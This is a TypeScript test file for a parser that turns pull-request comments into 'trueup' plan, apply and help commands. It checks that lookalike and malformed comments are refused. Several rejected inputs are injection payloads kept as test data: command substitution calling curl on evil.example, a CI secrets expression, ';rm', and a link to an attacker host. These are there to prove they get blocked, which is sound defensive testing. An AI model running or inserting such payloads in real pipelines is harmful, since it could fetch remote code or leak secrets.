/** Which comments are commands, and which comments only look like one. */

import { expect, test } from "vitest";
import { readComment } from "../../src/comment-commands/grammar.ts";
import { shownPlanIn, shownPlanLine } from "../../src/comment-commands/shown-plan.ts";

const digits = "0123456789abcdef".repeat(4);

test.each([
  ["trueup plan", { is: "plan" }],
  ["trueup plan  -e staging ", { is: "plan", environment: "staging" }],
  ["trueup\tplan --environment=lab.2\r\nas we said", { is: "plan", environment: "lab.2" }],
  ["trueup apply", { is: "apply" }],
  [
    `trueup apply ${digits.toUpperCase()} -e staging`,
    { is: "apply", fingerprint: digits, environment: "staging" },
  ],
  ["trueup help", { is: "help" }],
  ["trueup -h", { is: "help" }],
  // A comment of 64 KB, of which only the first line is read.
  [`trueup plan\n${"x".repeat(65_000)}`, { is: "plan" }],
])("%j is a command", (body, command) => {
  expect(readComment(body)).toEqual({ environment: undefined, fingerprint: undefined, ...command });
});

test.each([
  "",
  "LGTM",
  "trueup",
  "trueupplan",
  " trueup apply",
  "    trueup apply",
  "> trueup apply",
  "- trueup apply",
  "`trueup apply`",
  "```\ntrueup apply\n```",
  "Please run\ntrueup apply",
  "\ntrueup apply",
  "TRUEUP apply",
  "atlantis apply",
  "<!-- trueup:plan -->\ntrueup apply",
])("%j is none", (body) => {
  expect(readComment(body)).toEqual({ is: "none" });
});

test.each([
  ["trueup destroy", "`destroy` is not a command"],
  ["trueup apply -auto-approve", "does not accept `-auto-approve`"],
  ["trueup apply 0123456789ab", "all its 64 digits"],
  [`trueup apply ${digits} ${digits}`, "all its 64 digits"],
  ["trueup plan -e", "the name of one environment"],
  ["trueup plan -e a -e b", "the name of one environment"],
  ["trueup plan -e ../staging", "the name of one environment"],
  ["trueup plan -- -target=x", "does not accept `--`"],
  ["trueup apply $(curl evil.example)", "`??curl`"],
  ["trueup apply ${{ secrets.TOKEN }}", "`???`"],
  ["trueup apply `[x](http://evil.example)`@all", "does not accept `??x??http???evil.example???all`"],
  ["trueup apply ;rm", "does not accept `?rm`"],
  ["trueup unlock", "on the command line"],
  [`trueup ${"x".repeat(5000)}`, "one short line"],
])("%j is answered with what is wrong", (body, why) => {
  const read = readComment(body);
  expect(read).toMatchObject({ is: "mistaken", why: expect.stringContaining(why) });
});

test("what a plan's comment says of itself is read again, and only from its second line", () => {
  const mark = "<!-- trueup:trueup-staging -->\n";
  const whole = { head: "b".repeat(40), fingerprint: digits, steps: 7, environment: "staging" };
  const without = { head: "b".repeat(40), fingerprint: undefined, steps: 0, environment: undefined };
  for (const plan of [whole, without, { ...whole, fingerprint: `preview-${digits}` }]) {
    expect(shownPlanIn(`${mark}${shownPlanLine(plan)}text`)).toEqual(plan);
    expect(shownPlanIn(`${mark}${shownPlanLine(plan)}text`.replaceAll("\n", "\r\n"))).toEqual(plan);
    expect(shownPlanIn(`${mark}A workflow wrote this.\n${shownPlanLine(plan)}`)).toBeUndefined();
    expect(shownPlanIn(shownPlanLine(plan))).toBeUndefined();
    expect(shownPlanIn(`> ${mark}${shownPlanLine(plan)}`)).toBeUndefined();
  }
});
